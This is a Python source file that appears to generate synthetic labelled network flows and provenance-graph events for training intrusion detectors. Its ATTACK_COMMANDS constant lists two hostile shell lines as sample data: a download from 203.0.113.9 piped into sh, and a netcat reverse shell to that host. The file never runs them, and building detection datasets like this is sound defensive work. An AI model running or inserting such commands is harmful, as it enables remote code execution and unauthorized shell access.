# This source code is licensed under the MIT license found in the
# LICENSE file in the root directory of this source tree.

import io
import logging
import math

import numpy as np
import pandas as pd
import scipy.special

from fedhunter import utils
from fedhunter.errors import ConfigError
from fedhunter.netflow_ingest import (
    FEATURE_SPECS,
    LABEL_COLUMN,
    SCHEMAS,
    NormalizationMethod,
    RawFlowRecord,
)
from fedhunter.provenance_graph import EdgeType, NodeType

logger = logging.getLogger(__name__)

# erfinv diverges at 1
_ERF_CEILING = 0.999

_FIELD_OF = {
    "PROTOCOL": "protocol",
    "L4_SRC_PORT": "l4_src_port",
    "L4_DST_PORT": "l4_dst_port",
    "IN_PKTS": "in_pkts",
    "OUT_PKTS": "out_pkts",
    "IN_BYTES": "in_bytes",
    "OUT_BYTES": "out_bytes",
    "TCP_FLAGS": "tcp_flags",
    "FLOW_DURATION_MS": "flow_duration_ms",
    "L7_PROTO": "l7_proto",
}

BENIGN_PROGRAMS = ("/usr/bin/bash", "/usr/sbin/sshd", "/usr/bin/python3", "/usr/sbin/cron", "/usr/bin/vim")
ATTACK_PROGRAMS = ("/tmp/.cache/implant", "/dev/shm/beacon")
BENIGN_COMMANDS = ("ls -la /home", "python3 manage.py runserver", "vim notes.txt", "cron -f")
ATTACK_COMMANDS = ("curl http://203.0.113.9/stage2 | sh", "nc -e /bin/sh 203.0.113.9 4444")


def attack_count(total, rate):
    return int(math.floor(total * rate + 0.5))


def _check_rate(name, value):
    if not 0.0 <= value <= 1.0:
        raise ConfigError(f"{name} must be in [0, 1], got {value}")


def _labels(total, rate, rng):
    labels = np.zeros(total, dtype=np.int64)
    labels[: attack_count(total, rate)] = 1
    return rng.permutation(labels)


def _raw_value(spec, target):
    if spec.method == NormalizationMethod.MinMax:
        return int(round(target * spec.x_max))
    return int(round(spec.k_w * scipy.special.erfinv(min(target, _ERF_CEILING))))


# Benign flows draw every normalized feature from [0, (1 - s) / 2] and attacks
# from [(1 + s) / 2, 1], then map back to raw counters.
def generate_flows(n, separation=0.5, attack_rate=0.5, seed=0):
    if n < 0:
        raise ConfigError(f"flow count must be non-negative, got {n}")
    if not 0.0 <= separation < 1.0:
        raise ConfigError(f"separation must be in [0, 1), got {separation}")
    _check_rate("attack rate", attack_rate)
    rng = np.random.default_rng(seed)
    labels = _labels(n, attack_rate, rng)
    low, high = (1.0 - separation) / 2.0, (1.0 + separation) / 2.0
    records = []
    for label in labels:
        lo, hi = (high, 1.0) if label == 1 else (0.0, low)
        fields = {
            _FIELD_OF[spec.feature_name]: _raw_value(spec, rng.uniform(lo, hi))
            for spec in FEATURE_SPECS
        }
        a, b = rng.integers(0, 256, size=2)
        records.append(
            RawFlowRecord(
                src_addr=f"10.0.{a}.{b}",
                dst_addr=f"192.168.{b}.{a}",
                label=int(label),
                **fields,
            )
        )
    logger.info(f"Generated {n} flows, {int(labels.sum())} attacks")
    return records


def write_flows_csv(path, records, schema_name="nf-ton-iot"):
    frame = pd.DataFrame([r.to_row() for r in records], columns=list(SCHEMAS[schema_name]))
    buffer = io.StringIO()
    frame.to_csv(buffer, index=False)
    return utils.atomic_write_text(path, buffer.getvalue())


def _node_attrs(node_type, rng, attack=False):
    if node_type == NodeType.SUBJECT:
        return {"sub_type": "attack_process" if attack else str(rng.choice(["process", "thread"]))}
    if node_type == NodeType.FILE:
        return {"sub_type": "attack_payload" if attack else str(rng.choice(["regular", "directory", "link"]))}
    if node_type == NodeType.NET_FLOW:
        return {
            "local_address": f"10.0.0.{rng.integers(1, 255)}",
            "local_port": int(rng.integers(1024, 65536)),
            "remote_address": f"172.16.{rng.integers(0, 256)}.{rng.integers(1, 255)}",
            "remote_port": int(rng.choice([22, 80, 443, 8080])),
        }
    return {}


def _edge_attrs(edge_type, rng, attack):
    programs = ATTACK_PROGRAMS if attack else BENIGN_PROGRAMS
    attrs = {"exec": str(rng.choice(programs))}
    if edge_type == EdgeType.EXECUTE:
        attrs["cmd_line"] = str(rng.choice(ATTACK_COMMANDS if attack else BENIGN_COMMANDS))
    elif edge_type == EdgeType.ACCEPT:
        attrs["address"] = "203.0.113.9" if attack else f"172.16.{rng.integers(0, 256)}.{rng.integers(1, 255)}"
        attrs["port"] = 4444 if attack else int(rng.choice([22, 80, 443]))
    return attrs


# Returns the node and edge events of a synthetic provenance graph. Attack edges
# run between a small set of attacker processes and payload files and carry
# attacker programs, benign edges never touch those nodes.
def generate_provenance(nodes, edges=None, attack_rate=0.007, seed=0):
    _check_rate("attack rate", attack_rate)
    edges = 2 * nodes if edges is None else edges
    if edges < 0:
        raise ConfigError(f"edge count must be non-negative, got {edges}")
    rng = np.random.default_rng(seed)
    labels = _labels(edges, attack_rate, rng)
    attackers = max(1, int(math.ceil(nodes * 0.01))) if labels.sum() > 0 else 0
    if nodes < 2 * attackers + 2:
        raise ConfigError(f"{nodes} nodes are too few for a graph with attack edges")

    events = []
    benign_subjects, benign_objects, attack_subjects, attack_files = [], [], [], []
    for i in range(nodes):
        node_id = f"n{i}"
        if i < attackers:
            node_type, attack = NodeType.SUBJECT, True
            attack_subjects.append(node_id)
        elif i < 2 * attackers:
            node_type, attack = NodeType.FILE, True
            attack_files.append(node_id)
        else:
            attack = False
            # The first benign node is always a process so every edge has a source
            if i == 2 * attackers:
                node_type = NodeType.SUBJECT
            else:
                node_type = NodeType(rng.choice([t.value for t in NodeType]))
            if node_type == NodeType.SUBJECT:
                benign_subjects.append(node_id)
            benign_objects.append(node_id)
        events.append(
            {"kind": "node", "id": node_id, "type": node_type.value, "attrs": _node_attrs(node_type, rng, attack)}
        )

    edge_types = [t.value for t in EdgeType]
    for i, label in enumerate(labels):
        edge_type = EdgeType(rng.choice(edge_types))
        if label == 1:
            src = str(rng.choice(attack_subjects))
            dst = str(rng.choice(attack_files))
        else:
            src = str(rng.choice(benign_subjects))
            dst = str(rng.choice(benign_objects))
        events.append(
            {
                "kind": "edge",
                "id": f"e{i}",
                "type": edge_type.value,
                "src": src,
                "dst": dst,
                "attrs": _edge_attrs(edge_type, rng, label == 1),
                "label": int(label),
            }
        )
    logger.info(f"Generated {nodes} nodes and {edges} edges, {int(labels.sum())} attacks")
    return events


def write_events(path, events):
    return utils.atomic_write_text(path, "".join(utils.dumps(e) + "\n" for e in events))
